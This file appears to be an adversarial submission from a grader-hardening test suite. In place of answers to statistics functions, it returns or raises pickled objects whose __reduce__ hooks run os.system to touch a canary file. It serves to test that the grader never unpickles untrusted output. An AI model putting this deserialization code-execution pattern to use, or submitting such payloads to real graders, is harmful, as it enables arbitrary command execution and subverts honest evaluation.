"""ATTACK: pickle payloads — return objects whose ``__reduce__`` runs a command (touch a file
in the canary folder), raw pickle bytes, a numpy object array holding one, a torch tensor
subclass with a malicious ``__reduce_ex__``, and an exception carrying one; if the grader
unpickled anything, the canary folder would change.

honest part: 0 points

proof: returned a mle.Boom (cannot be sent to the grader)
proof: returned a builtins.bytes (cannot be sent to the grader)
proof: mvn_mle() raised EvilError
"""
import os
import pickle

import numpy as np
import torch

CANARY = "@@CANARY@@"


class Boom:
    def __reduce__(self):
        return (os.system, (f"touch {CANARY}/pickle-ran",))


class EvilTensor(torch.Tensor):
    def __reduce_ex__(self, proto):
        return (os.system, (f"touch {CANARY}/pickle-ran-tensor",))


class EvilError(Exception):
    def __reduce__(self):
        return (os.system, (f"touch {CANARY}/pickle-ran-exc",))


def bernoulli_log_likelihood(theta, x):
    return Boom()


def bernoulli_mle(x):
    return pickle.dumps(Boom())


def gaussian_log_pdf(x, mu, var):
    return np.array([Boom()], dtype=object)


def gaussian_mle(x):
    return torch.full((), float("nan")).as_subclass(EvilTensor), Boom()


def mvn_mle(x):
    raise EvilError(pickle.dumps(Boom()))


def mvn_log_pdf(x, mu, cov):
    raise NotImplementedError("write your solution here")
